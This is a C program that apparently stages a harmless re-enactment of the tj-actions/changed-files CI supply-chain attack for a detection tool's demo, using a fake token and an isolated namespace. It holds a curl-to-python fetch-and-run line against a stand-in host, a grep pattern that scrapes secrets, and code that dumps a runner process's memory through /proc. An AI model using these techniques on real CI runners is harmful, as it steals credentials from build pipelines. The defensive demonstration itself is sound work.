// SPDX-License-Identifier: Apache-2.0
//
// A harmless staged supply-chain attack on a CI job, for `eyas demo`.
//
// One program plays every part; the name it is started under says which one. Started as `stage`, it moves into a
// network namespace of its own whose loopback device carries documentation addresses only, runs a name server and a web
// server there, and starts a stand-in of a CI runner. The runner's worker keeps a FAKE secret in its memory and runs
// three steps, each a child process with the environment a real runner would give it:
//
//   1. actions/checkout              benign: writes a repository into the workspace
//   2. tj-actions/changed-files@v45  compromised: fetches a program over HTTP, which reads the worker's memory; the
//                                    secret is encoded twice and printed into the log (the shape of CVE-2025-30066)
//   3. a build                       benign: reads the sources, writes into the workspace
//
// What makes it harmless: the namespace has no way out; the secret is invented and exists only in the memory of the
// worker started here; the reader opens the memory of a process only after it has checked that the process runs this
// very program in this very job; everything is written below one temporary folder, which is removed at the end.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <inttypes.h>
#include <limits.h>
#include <linux/if.h>
#include <linux/ipv6.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define NAME_SERVER "192.0.2.53"
#define WEB_SERVER "198.51.100.7"
#define HOST_NAME "gist.example.test"
#define PAYLOAD_PATH "/raw/memdump.py"
// The first line of the fetched program; the stand-in for the interpreter does nothing without it.
#define PAYLOAD_MARK "# eyas-demo: read the memory of Runner.Worker\n"
#define DEADLINE_SECONDS 30
#define DUMP_LIMIT (32u << 20)
#define PAUSE_NS 400000000L

static char stage_dir[PATH_MAX / 2]; // of the role `stage` only: what has to be removed
static pid_t listener;               // of the role `stage` only
static volatile sig_atomic_t stop_signal;

// --- Small tools. ---

__attribute__((format(printf, 1, 2), noreturn)) static void die(const char *format, ...) {
    va_list arguments;
    fprintf(stderr, "demo: ");
    va_start(arguments, format);
    vfprintf(stderr, format, arguments);
    va_end(arguments);
    fprintf(stderr, "\n");
    exit(1);
}

__attribute__((format(printf, 1, 2))) static void say(const char *format, ...) {
    va_list arguments;
    printf("demo: ");
    va_start(arguments, format);
    vprintf(format, arguments);
    va_end(arguments);
    printf("\n");
    fflush(stdout);
}

static void breathe(void) {
    struct timespec pause = {.tv_nsec = PAUSE_NS};
    nanosleep(&pause, NULL);
}

// Formats a path; a path that does not fit ends the program, since every one of them starts in the stage's folder.
__attribute__((format(printf, 2, 3))) static const char *path(char out[PATH_MAX], const char *format, ...) {
    va_list arguments;
    va_start(arguments, format);
    int length = vsnprintf(out, PATH_MAX, format, arguments);
    va_end(arguments);
    if (length < 0 || length >= PATH_MAX) {
        die("a path is too long; set TMPDIR to a shorter one");
    }
    return out;
}

static const char *need_env(const char *name) {
    const char *value = getenv(name);
    if (value == NULL) {
        die("%s is not set; start this program as `stage`, it starts the other roles itself", name);
    }
    return value;
}

static void make_dirs(const char *dir) {
    char copy[PATH_MAX];
    path(copy, "%s", dir);
    for (char *slash = strchr(copy + 1, '/');; slash = strchr(slash + 1, '/')) {
        if (slash != NULL) {
            *slash = '\0';
        }
        if (mkdir(copy, 0755) != 0 && errno != EEXIST) {
            die("cannot make the folder %s: %s", copy, strerror(errno));
        }
        if (slash == NULL) {
            return;
        }
        *slash = '/';
    }
}

static void write_all(int fd, const void *bytes, size_t size, const char *what) {
    for (const char *next = bytes; size > 0;) {
        ssize_t written = write(fd, next, size);
        if (written < 0 && errno == EINTR) {
            continue;
        }
        if (written < 0) {
            die("cannot write %s: %s", what, strerror(errno));
        }
        next += written;
        size -= (size_t)written;
    }
}

static void write_file(const char *file, const char *text) {
    int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) {
        die("cannot write %s: %s", file, strerror(errno));
    }
    write_all(fd, text, strlen(text), file);
    close(fd);
}

// Runs a program and waits for it; returns its exit code, 128 + signal where a signal ended it.
static int run(char *const command[]) {
    pid_t child = fork();
    if (child < 0) {
        die("cannot fork: %s", strerror(errno));
    }
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        execvp(command[0], command);
        fprintf(stderr, "demo: cannot run %s: %s\n", command[0], strerror(errno));
        _exit(127);
    }
    int status;
    while (waitpid(child, &status, 0) < 0) {
        if (errno != EINTR) {
            die("cannot wait for %s: %s", command[0], strerror(errno));
        }
    }
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

// --- Role `stage`: namespace, servers, clean-up. ---

static int remove_entry(const char *file, const struct stat *status, int kind, struct FTW *position) {
    (void)status;
    (void)kind;
    (void)position;
    return remove(file);
}

static void clean_up(void) {
    if (listener > 0) {
        kill(-listener, SIGKILL);
    }
    if (stage_dir[0] != '\0' && nftw(stage_dir, remove_entry, 16, FTW_DEPTH | FTW_PHYS) != 0) {
        fprintf(stderr, "demo: could not remove all of %s\n", stage_dir);
    }
}

static void on_signal(int signal) {
    if (signal != SIGCHLD) {
        stop_signal = signal;
    }
}

static void add_address(int socket4, int index, const char *address) {
    struct ifreq request = {0};
    snprintf(request.ifr_name, sizeof request.ifr_name, "lo:%d", index);
    struct sockaddr_in *in = (struct sockaddr_in *)&request.ifr_addr;
    in->sin_family = AF_INET;
    inet_pton(AF_INET, address, &in->sin_addr);
    if (ioctl(socket4, SIOCSIFADDR, &request) != 0) {
        die("cannot give %s to the loopback device: %s", address, strerror(errno));
    }
    inet_pton(AF_INET, "255.255.255.0", &in->sin_addr);
    if (ioctl(socket4, SIOCSIFNETMASK, &request) != 0) {
        die("cannot set the network mask of %s: %s", address, strerror(errno));
    }
}

static void enter_network(void) {
    if (unshare(CLONE_NEWNET) != 0) {
        die("cannot make a network namespace (%s); it needs root with CAP_SYS_ADMIN: in a container, run with "
            "--privileged",
            strerror(errno));
    }
    int socket4 = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct ifreq up = {.ifr_name = "lo"};
    if (socket4 < 0 || ioctl(socket4, SIOCGIFFLAGS, &up) != 0) {
        die("cannot read the loopback device: %s", strerror(errno));
    }
    int index_of_lo;
    up.ifr_flags |= IFF_UP | IFF_RUNNING;
    if (ioctl(socket4, SIOCSIFFLAGS, &up) != 0 || ioctl(socket4, SIOCGIFINDEX, &up) != 0) {
        die("cannot bring up the loopback device: %s", strerror(errno));
    }
    index_of_lo = up.ifr_ifindex;
    add_address(socket4, 1, NAME_SERVER);
    add_address(socket4, 2, WEB_SERVER);
    add_address(socket4, 3, "203.0.113.1");
    close(socket4);
    // A kernel without IPv6 is fine: nothing in the story needs it.
    int socket6 = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (socket6 >= 0) {
        struct in6_ifreq request = {.ifr6_prefixlen = 32, .ifr6_ifindex = index_of_lo};
        inet_pton(AF_INET6, "2001:db8::7", &request.ifr6_addr);
        (void)ioctl(socket6, SIOCSIFADDR, &request);
        close(socket6);
    }
}

static int listen_on(const char *address, uint16_t port, int type) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &at.sin_addr);
    int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
    if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof at) != 0 || (type == SOCK_STREAM && listen(fd, 8) != 0)) {
        die("cannot serve on %s:%u: %s", address, port, strerror(errno));
    }
    return fd;
}

// Answers one question for HOST_NAME, type A, with the web server's address; other questions with "no such name".
static void answer_dns(int fd) {
    uint8_t packet[512];
    struct sockaddr_in from;
    socklen_t from_size = sizeof from;
    ssize_t size = recvfrom(fd, packet, sizeof packet - 16, 0, (struct sockaddr *)&from, &from_size);
    if (size < 12) {
        return;
    }
    char name[256];
    size_t length = 0;
    size_t at = 12;
    while (at < (size_t)size && packet[at] != 0 && packet[at] < 64 && at + packet[at] < (size_t)size) {
        if (length + packet[at] + 1 >= sizeof name) {
            return;
        }
        if (length > 0) {
            name[length++] = '.';
        }
        memcpy(name + length, packet + at + 1, packet[at]);
        length += packet[at];
        at += packet[at] + 1u;
    }
    name[length] = '\0';
    at += 5; // root label, type, class
    if (at > (size_t)size) {
        return;
    }
    bool known = strcmp(name, HOST_NAME) == 0 && packet[at - 4] == 0 && packet[at - 3] == 1;
    packet[2] = 0x81; // an answer, recursion was desired
    packet[3] = known ? 0x80 : 0x83;
    memset(packet + 6, 0, 6);
    packet[7] = known ? 1 : 0;
    if (known) {
        static const uint8_t record[] = {0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4};
        memcpy(packet + at, record, sizeof record);
        at += sizeof record;
        inet_pton(AF_INET, WEB_SERVER, packet + at);
        at += 4;
    }
    sendto(fd, packet, at, 0, (struct sockaddr *)&from, from_size);
}

static void answer_http(int fd) {
    int client = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
    if (client < 0) {
        return;
    }
    struct timeval patience = {.tv_sec = 2};
    setsockopt(client, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    char request[1024];
    ssize_t size = recv(client, request, sizeof request - 1, 0);
    request[size > 0 ? size : 0] = '\0';
    bool known = strncmp(request, "GET " PAYLOAD_PATH " ", strlen("GET " PAYLOAD_PATH " ")) == 0;
    const char *body = known ? PAYLOAD_MARK "# Staged and harmless: nothing but a stand-in ever acts on this text.\n" : "";
    char answer[512];
    int length = snprintf(answer, sizeof answer,
                          "HTTP/1.1 %s\r\nContent-Type: text/plain\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n%s",
                          known ? "200 OK" : "404 Not Found", strlen(body), body);
    send(client, answer, (size_t)length, MSG_NOSIGNAL);
    close(client);
}

// Serves until the runner has ended; returns its exit code.
static int serve(int dns, int http, const sigset_t *waiting) {
    struct pollfd sockets[] = {{.fd = dns, .events = POLLIN}, {.fd = http, .events = POLLIN}};
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        int status;
        if (waitpid(listener, &status, WNOHANG) == listener) {
            return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
        }
        if (stop_signal != 0) {
            clean_up();
            _exit(128 + stop_signal);
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec > DEADLINE_SECONDS) {
            die("the staged job did not end within %d seconds", DEADLINE_SECONDS);
        }
        struct timespec slice = {.tv_sec = 1};
        if (ppoll(sockets, 2, &slice, waiting) > 0) {
            if (sockets[0].revents != 0) {
                answer_dns(dns);
            }
            if (sockets[1].revents != 0) {
                answer_http(http);
            }
        }
    }
}

static int play_stage(const char *argument) {
    if (argument != NULL) {
        printf("Usage: stage\n\nPlays a harmless staged supply-chain attack on a CI job, in a network namespace of its\n"
               "own. Run it under Eyas to see it caught: eyas watch -- stage\n");
        return strcmp(argument, "--help") == 0 ? 0 : 2;
    }
    if (geteuid() != 0) {
        die("must run as root (the stage makes a network namespace): try sudo");
    }
    const char *tmp = getenv("TMPDIR");
    char dir[PATH_MAX], program[PATH_MAX], link_to[PATH_MAX];
    path(dir, "%s/eyas-demo.XXXXXX", tmp != NULL && tmp[0] == '/' ? tmp : "/tmp");
    ssize_t length = readlink("/proc/self/exe", program, sizeof program - 1);
    if (length < 0) {
        die("cannot read /proc/self/exe (%s); is /proc mounted?", strerror(errno));
    }
    program[length] = '\0';
    enter_network();

    // Signals are only taken while waiting, so that none is lost between a check and the wait.
    sigset_t blocked, before;
    sigemptyset(&blocked);
    struct sigaction action = {.sa_handler = on_signal};
    static const int taken[] = {SIGCHLD, SIGINT, SIGTERM, SIGHUP};
    for (size_t i = 0; i < sizeof taken / sizeof taken[0]; i++) {
        sigaddset(&blocked, taken[i]);
        sigaction(taken[i], &action, NULL);
    }
    sigprocmask(SIG_BLOCK, &blocked, &before);

    if (strlen(dir) >= sizeof stage_dir || mkdtemp(dir) == NULL) {
        die("cannot make a temporary folder %s: %s", dir, strerror(errno));
    }
    strcpy(stage_dir, dir);
    atexit(clean_up);
    path(link_to, "%s/bin", dir);
    make_dirs(link_to);
    static const char *const roles[] = {"Runner.Listener", "Runner.Worker", "node", "git", "curl", "python3"};
    for (size_t i = 0; i < sizeof roles / sizeof roles[0]; i++) {
        if (symlink(program, path(link_to, "%s/bin/%s", dir, roles[i])) != 0) {
            die("cannot make %s: %s", link_to, strerror(errno));
        }
    }
    int dns = listen_on(NAME_SERVER, 53, SOCK_DGRAM);
    int http = listen_on(WEB_SERVER, 80, SOCK_STREAM);
    say("a staged CI job; its network is a namespace with documentation addresses only, its secret is fake");

    pid_t self = getpid();
    listener = fork();
    if (listener < 0) {
        die("cannot fork: %s", strerror(errno));
    }
    if (listener == 0) {
        stage_dir[0] = '\0'; // the folder belongs to the parent
        listener = 0;
        setpgid(0, 0); // one group for the whole job, so that the end of the stage ends all of it
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        if (getppid() != self) {
            _exit(1);
        }
        sigprocmask(SIG_SETMASK, &before, NULL);
        setenv("EYAS_DEMO_DIR", dir, 1);
        char *const command[] = {"Runner.Listener", "run", NULL};
        execv(path(link_to, "%s/bin/Runner.Listener", dir), command);
        _exit(127);
    }
    setpgid(listener, listener);
    int code = serve(dns, http, &before);
    listener = 0;
    if (code != 0) {
        die("the staged job failed with exit code %d", code);
    }
    say("done; everything it wrote is removed");
    return 0;
}

// --- Roles `Runner.Listener` and `Runner.Worker`. ---

static int play_listener(void) {
    char worker[PATH_MAX];
    path(worker, "%s/bin/Runner.Worker", need_env("EYAS_DEMO_DIR"));
    char *const command[] = {worker, "spawnclient", "112", "115", NULL};
    return run(command);
}

// Gives the next step the environment that a runner would.
static void set_step(const char *action, const char *repository, const char *reference) {
    setenv("GITHUB_ACTION", action, 1);
    setenv("GITHUB_ACTION_REPOSITORY", repository, 1);
    setenv("GITHUB_ACTION_REF", reference, 1);
    static const char *const commands[][2] = {{"GITHUB_ENV", "set_env"},
                                              {"GITHUB_PATH", "add_path"},
                                              {"GITHUB_OUTPUT", "set_output"},
                                              {"GITHUB_STATE", "save_state"},
                                              {"GITHUB_STEP_SUMMARY", "step_summary"}};
    static int step;
    step++;
    for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++) {
        char file[PATH_MAX];
        path(file, "%s/_runner_file_commands/%s_%08d", need_env("RUNNER_TEMP"), commands[i][1], step);
        write_file(file, "");
        setenv(commands[i][0], file, 1);
    }
}

static void set_job(const char *dir) {
    char text[PATH_MAX];
    setenv("CI", "true", 1);
    setenv("GITHUB_ACTIONS", "true", 1);
    setenv("GITHUB_JOB", "build", 1);
    setenv("GITHUB_WORKFLOW", "CI", 1);
    setenv("GITHUB_REPOSITORY", "example/shop", 1);
    setenv("GITHUB_REF", "refs/heads/main", 1);
    setenv("GITHUB_RUN_ID", "1", 1);
    setenv("GITHUB_WORKSPACE", path(text, "%s/work/shop/shop", dir), 1);
    make_dirs(text);
    if (chdir(text) != 0) {
        die("cannot enter %s: %s", text, strerror(errno));
    }
    setenv("RUNNER_TEMP", path(text, "%s/work/_temp", dir), 1);
    path(text, "%s/work/_temp/_runner_file_commands", dir);
    make_dirs(text);
    const char *search = getenv("PATH");
    size_t size = strlen(dir) + (search != NULL ? strlen(search) : 0) + 64;
    char *joined = malloc(size);
    if (joined == NULL) {
        die("out of memory");
    }
    snprintf(joined, size, "%s/bin:%s", dir, search != NULL ? search : "/usr/local/bin:/usr/bin:/bin");
    setenv("PATH", joined, 1);
    free(joined);
}

static const char compromised_action[] =
    "# The staged counterpart of the code that was smuggled into tj-actions/changed-files in March 2025.\n"
    "if [ \"$GITHUB_ACTIONS\" = true ]; then\n"
    "  blob=$(curl -sSf http://" HOST_NAME PAYLOAD_PATH
    " | python3 | tr -d '\\0' |\n"
    "    grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' | sort -u | base64 -w 0 | base64 -w 0)\n"
    "  [ -n \"$blob\" ] || exit 1\n"
    "  echo \"$blob\"\n"
    "fi\n";

static const char build_script[] =
    "mkdir -p build/obj\n"
    "for source in src/*.c; do\n"
    "  cp \"$source\" build/obj/\n"
    "  grep -c include \"$source\" >> build/includes.txt || true\n"
    "done\n"
    "sort -u src/*.c > build/lines.txt\n"
    "if command -v cc > /dev/null; then\n"
    "  cc -c src/main.c -o build/obj/main.o\n"
    "  cc -c src/price.c -o build/obj/price.o\n"
    "  cc build/obj/main.o build/obj/price.o -o build/shop\n"
    "fi\n"
    "ls build > build/manifest.txt\n";

static int play_worker(void) {
    const char *dir = need_env("EYAS_DEMO_DIR");
    set_job(dir);
    unsetenv("EYAS_DEMO_DIR");

    // The secret is put together at run time, so that it exists in the memory of this process and nowhere else.
    char *secrets = calloc(1, 4096);
    if (secrets == NULL) {
        die("out of memory");
    }
    snprintf(secrets, 4096, "{\"%s\":{\"%s\":\"%s%s\",\"%s\":%s}}", "github_token", "value", "ghs_FAKE", "onlyForTheDemo",
             "isSecret", "true");

    char action[PATH_MAX], script[PATH_MAX];
    int code;
    set_step("__actions_checkout", "actions/checkout", "v4");
    say("step 1: actions/checkout@v4 (benign) writes the sources into the workspace");
    path(action, "%s/work/_actions/actions/checkout/v4/dist", dir);
    make_dirs(action);
    write_file(path(script, "%s/index.js", action), "// stand-in\n");
    char *const checkout[] = {"node", script, NULL};
    if ((code = run(checkout)) != 0) {
        return code;
    }
    breathe();

    set_step("__tj-actions_changed-files", "tj-actions/changed-files", "v45");
    say("step 2: tj-actions/changed-files@v45 (compromised) reads the worker's memory and prints what it found:");
    path(action, "%s/work/_actions/tj-actions/changed-files/v45/dist", dir);
    make_dirs(action);
    write_file(path(script, "%s/index.js", action), "// stand-in\n");
    if ((code = run(checkout)) != 0) {
        return code;
    }
    breathe();

    set_step("__run", "", "");
    say("step 3: make (benign) builds into the workspace");
    write_file(path(script, "%s/work/_temp/3.sh", dir), build_script);
    char *const build[] = {"bash", "-e", script, NULL};
    code = run(build);
    volatile char *kept = secrets; // alive until here, whatever the optimiser thinks
    kept[0] = '\0';
    free(secrets);
    return code;
}

// --- Roles that the steps use: `node`, `git`, `curl`, `python3`. ---

static int play_node(void) {
    if (strcmp(need_env("GITHUB_ACTION_REPOSITORY"), "actions/checkout") == 0) {
        char *const command[] = {"git", "checkout", "--progress", "--force", "main", NULL};
        return run(command);
    }
    char script[PATH_MAX];
    write_file(path(script, "%s/run.sh", need_env("RUNNER_TEMP")), compromised_action);
    char *const command[] = {"bash", script, NULL};
    return run(command);
}

static int play_git(void) {
    static const char *const dirs[] = {".git/objects", ".git/refs/heads", ".github/workflows", "src"};
    static const char *const files[][2] = {
        {".git/HEAD", "ref: refs/heads/main\n"},
        {".git/config", "[core]\n\tbare = false\n[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic "
                        "RkFLRQ==\n"},
        {".github/workflows/ci.yml", "on: push\njobs: {}\n"},
        {"src/main.c", "#include <stdio.h>\nint price(int n);\nint main(void) { printf(\"%d\\n\", price(3)); }\n"},
        {"src/price.c", "int price(int n) { return 7 * n; }\n"},
    };
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        make_dirs(dirs[i]);
    }
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        write_file(files[i][0], files[i][1]);
    }
    return 0;
}

static int connect_to(const struct in_addr *address, uint16_t port, int type) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr = *address};
    int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
    struct timeval patience = {.tv_sec = 5};
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience) != 0 ||
        connect(fd, (struct sockaddr *)&to, sizeof to) != 0) {
        die("cannot connect to port %u: %s", port, strerror(errno));
    }
    return fd;
}

// Asks the stage's name server, not the system's resolver: on some systems that one leads out of the namespace, through
// a Unix socket of a local daemon.
static struct in_addr look_up(const char *host) {
    uint8_t query[300] = {0x1d, 0x0e, 1, 0, 0, 1};
    size_t at = 12;
    for (const char *label = host; *label != '\0';) {
        size_t length = strcspn(label, ".");
        if (length == 0 || length > 63 || at + length + 6 > sizeof query) {
            die("not a host name: %s", host);
        }
        query[at++] = (uint8_t)length;
        memcpy(query + at, label, length);
        at += length;
        label += length + (label[length] == '.');
    }
    query[at + 2] = 1; // after the root label: type A
    query[at + 4] = 1; // class IN
    at += 5;
    struct in_addr server, found;
    inet_pton(AF_INET, NAME_SERVER, &server);
    int fd = connect_to(&server, 53, SOCK_DGRAM);
    uint8_t answer[512];
    if (send(fd, query, at, 0) != (ssize_t)at) {
        die("cannot ask for %s: %s", host, strerror(errno));
    }
    ssize_t size = recv(fd, answer, sizeof answer, 0);
    close(fd);
    if (size < (ssize_t)(at + 16) || answer[7] != 1) {
        die("cannot resolve %s", host);
    }
    memcpy(&found, answer + size - 4, 4);
    return found;
}

static int play_curl(const char *url) {
    if (url == NULL || strncmp(url, "http://", 7) != 0) {
        die("the stand-in for curl takes an http:// address as its last argument");
    }
    char host[256];
    size_t length = strcspn(url + 7, "/");
    if (length >= sizeof host) {
        die("not a host name: %s", url + 7);
    }
    memcpy(host, url + 7, length);
    host[length] = '\0';
    struct in_addr address = look_up(host);
    int fd = connect_to(&address, 80, SOCK_STREAM);
    char text[8192];
    int size = snprintf(text, sizeof text, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", url + 7 + length, host);
    if (size < 0 || size >= (int)sizeof text) {
        die("the address is too long");
    }
    write_all(fd, text, (size_t)size, "the request");
    size_t got = 0;
    for (ssize_t n; got < sizeof text - 1 && (n = recv(fd, text + got, sizeof text - 1 - got, 0)) > 0;) {
        got += (size_t)n;
    }
    close(fd);
    text[got] = '\0';
    const char *body = strstr(text, "\r\n\r\n");
    if (strncmp(text, "HTTP/1.1 200 ", 13) != 0 || body == NULL) {
        die("the web server of the stage did not answer");
    }
    write_all(STDOUT_FILENO, body + 4, strlen(body + 4), "the answer");
    return 0;
}

// Tells whether a process is the worker of this very job: named so, running this very program, in this process group.
static bool is_own_worker(const char *pid) {
    char file[PATH_MAX], line[256];
    int fd = open(path(file, "/proc/%s/cmdline", pid), O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        return false;
    }
    ssize_t size = read(fd, line, sizeof line - 1);
    close(fd);
    line[size > 0 ? size : 0] = '\0';
    struct stat mine, other;
    return strstr(line, "Runner.Worker") != NULL && stat("/proc/self/exe", &mine) == 0 &&
           stat(path(file, "/proc/%s/exe", pid), &other) == 0 && mine.st_ino == other.st_ino &&
           mine.st_dev == other.st_dev && getpgid((pid_t)strtol(pid, NULL, 10)) == getpgrp();
}

static void dump_memory(const char *pid) {
    char file[PATH_MAX], line[PATH_MAX + 128];
    FILE *maps = fopen(path(file, "/proc/%s/maps", pid), "re");
    int memory = open(path(file, "/proc/%s/mem", pid), O_RDONLY | O_CLOEXEC);
    if (maps == NULL || memory < 0) {
        die("the kernel does not let us read the memory of process %s: %s (is kernel.yama.ptrace_scope 3?)", pid,
            strerror(errno));
    }
    size_t dumped = 0;
    while (fgets(line, sizeof line, maps) != NULL) {
        uint64_t start, end;
        char rights[5];
        if (sscanf(line, "%" SCNx64 "-%" SCNx64 " %4s", &start, &end, rights) != 3 || strcmp(rights, "rw-p") != 0) {
            continue;
        }
        char page[4096];
        for (; start < end && dumped < DUMP_LIMIT; start += sizeof page, dumped += sizeof page) {
            if (pread(memory, page, sizeof page, (off_t)start) != (ssize_t)sizeof page) {
                break; // a hole such as a guard page
            }
            write_all(STDOUT_FILENO, page, sizeof page, "the memory");
        }
    }
    fclose(maps);
    close(memory);
}

static int play_python(void) {
    char program[4096];
    size_t got = fread(program, 1, sizeof program - 1, stdin);
    program[got] = '\0';
    if (strncmp(program, PAYLOAD_MARK, strlen(PAYLOAD_MARK)) != 0) {
        die("the stand-in for python3 runs nothing but the demo's own program");
    }
    DIR *processes = opendir("/proc");
    if (processes == NULL) {
        die("cannot list /proc: %s", strerror(errno));
    }
    bool found = false;
    for (struct dirent *entry; (entry = readdir(processes)) != NULL;) {
        if (isdigit((unsigned char)entry->d_name[0]) && is_own_worker(entry->d_name)) {
            dump_memory(entry->d_name);
            found = true;
        }
    }
    closedir(processes);
    return found ? 0 : 1;
}

int main(int count, char **arguments) {
    if (count < 1) {
        return 2;
    }
    const char *slash = strrchr(arguments[0], '/');
    const char *role = slash != NULL ? slash + 1 : arguments[0];
    const char *last = count > 1 ? arguments[count - 1] : NULL;
    if (strcmp(role, "Runner.Listener") == 0) {
        return play_listener();
    }
    if (strcmp(role, "Runner.Worker") == 0) {
        return play_worker();
    }
    if (strcmp(role, "node") == 0) {
        return play_node();
    }
    if (strcmp(role, "git") == 0) {
        return play_git();
    }
    if (strcmp(role, "curl") == 0) {
        return play_curl(last);
    }
    if (strcmp(role, "python3") == 0) {
        return play_python();
    }
    return play_stage(last);
}
